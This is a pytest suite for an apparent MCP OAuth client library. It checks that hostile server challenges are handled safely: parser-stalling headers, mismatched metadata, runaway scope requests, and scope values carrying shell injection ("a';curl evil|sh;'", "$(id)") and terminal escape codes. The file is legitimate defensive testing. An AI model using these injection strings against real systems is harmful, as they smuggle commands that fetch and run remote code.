"""What a hostile MCP server may put into its challenge, and how little comes of it."""

from __future__ import annotations

import shlex
import time

import pytest

from mcp_oauth_sync import NoPrompt, OAuth
from mcp_oauth_sync.exceptions import (
    DiscoveryError,
    MetadataMismatchError,
    OAuthError,
    ScopeRequiredError,
    SignInRequiredError,
)
from mcp_oauth_sync.protocol.challenge import select_challenge

from ..servers import json_reply
from .stage import readable

#: Headers made to keep a careless parser busy, all of the greatest length that arrives at all.
LABOUR = {
    "spaces": " ",
    "commas": ",",
    "quotes": '"',
    "backslashes": "\\",
    "open quotes": 'Bearer a="',
    "schemes": "Bearer ",
    "schemes without a space": "Bearer,",
    "parameters": "a=b,",
    "equals": "=",
    "tabs and equals": "\t=",
    "letters": "a",
    "letters and spaces": "a ",
    "escapes": 'Bearer a="\\\\',
    "stray text": "\x80",
}


@pytest.mark.parametrize("piece", LABOUR.values(), ids=LABOUR)
def test_no_challenge_keeps_the_parser_busy(piece):
    for header in (piece * (64_000 // len(piece)), "Bearer " + piece * (64_000 // len(piece)) + '"'):
        started = time.process_time()
        select_challenge([header])
        assert time.process_time() - started < 1.0


@pytest.mark.parametrize(
    "lines",
    [
        [],
        [""],
        ["Bearer"],
        ["Basic realm=x"],
        ["Bearer " * 5000],
        ['Bearer resource_metadata="'],
        ['Bearer error="invalid_token", error="insufficient_scope", scope="a'],
        ['Bearer realm=\x80\xff, =, ==, "", a=\'b'],
        ["Negotiate " + "A" * 8000, "DPoP algs=x", "Bearer x=y"],
    ],
    ids=range(9),
)
def test_a_broken_challenge_falls_back_to_the_well_known_places(stage, lines):
    stage.mcp.challenge_headers = lines
    assert stage.call(stage.auth()).status_code == 200
    assert len(stage.asked) == 1


def test_metadata_that_somebody_else_wrote_about_themselves_is_not_used(stage):
    stage.elsewhere.route(
        "GET",
        "/prm",
        lambda x: json_reply({"resource": stage.elsewhere.url, "authorization_servers": ["https://e.com"]}),
    )
    stage.mcp.challenge_headers = [f'Bearer resource_metadata="{stage.elsewhere.url}/prm"']
    before = stage.snapshot()
    with pytest.raises(MetadataMismatchError):
        stage.call(stage.auth())
    assert [(x.method, x.target, x.headers.get("Authorization"), x.body) for x in stage.elsewhere.log] == [
        ("GET", "/prm", None, b"")
    ]
    assert (stage.asked, stage.server.log, stage.snapshot()) == ([], [], before)
    stage.elsewhere.clear()


@pytest.mark.parametrize("status", [404, 401, 204])
def test_metadata_promised_but_missing_is_an_error_and_no_reason_to_look_elsewhere(stage, status):
    stage.mcp.challenge_headers = [f'Bearer resource_metadata="{stage.mcp.url}/nowhere"']
    stage.mcp.route("GET", "/nowhere", lambda x: json_reply({}, status))
    with stage.refusing(DiscoveryError):
        stage.call(stage.auth())
    assert stage.mcp.requests(stage.mcp.prm_paths["path"]) == []


SCOPES = [
    "\x1b[2Jnotes",
    "a';curl evil|sh;'",
    "$(id)",
    "`id`",
    "a\tb",
    "x" * 3000,
    " ".join(f"s{i}" for i in range(900)),
]


@pytest.mark.parametrize("scope", SCOPES, ids=lambda scope: repr(scope)[:20])
def test_a_hostile_scope_is_readable_and_harmless_in_what_the_person_is_told_to_run(stage, scope):
    assert stage.call(stage.auth()).status_code == 200
    before = stage.snapshot()
    nobody = OAuth(stage.mcp.mcp_url, prompt=NoPrompt(), token_manager=stage.manager)
    stage.mcp.always_403 = scope
    with pytest.raises(ScopeRequiredError) as caught:
        stage.call(nobody)
    said = readable(caught.value)
    assert len(said) < 4000
    words = shlex.split(str(caught.value.hint))
    assert words[:4] == ["Run:", "mcp-oauth-sync", "auth", nobody.name]
    assert words[5] == "--scopes"
    assert len(words) == 7
    assert stage.snapshot() == before


def test_a_server_that_asks_for_ever_more_asks_in_vain(stage):
    auth = stage.auth()
    assert stage.call(auth).status_code == 200
    wanted = iter(range(1000))
    stage.mcp.challenge = lambda text: text.replace('scope="more"', f'scope="more:{next(wanted)}"')
    stage.mcp.always_403 = "more"
    assert stage.call(auth).status_code == 403
    assert len(stage.asked) <= 4
    assert stage.server.violations == []


def test_a_server_that_takes_no_token_at_all_is_given_up(stage):
    stage.mcp.reject_all_tokens = True
    auth = stage.auth()
    assert stage.call(auth).status_code == 401
    assert (len(stage.asked), len(stage.sent("token"))) == (1, 1)


@pytest.mark.parametrize("scope", ["\x1b]0;x\x07", 'a"b', "a\\b"], ids=repr)
def test_nobody_there_hears_what_to_run_in_plain_characters(stage, scope):
    stage.mcp.challenge_headers = [f'Bearer error="invalid_token", scope="{scope}", error_description="\x1b[2J{scope}"']
    with stage.refusing(SignInRequiredError, OAuthError) as errors:
        stage.call(OAuth(stage.mcp.mcp_url, prompt=NoPrompt(), token_manager=stage.manager))
    assert "mcp-oauth-sync auth" in str(errors[0])
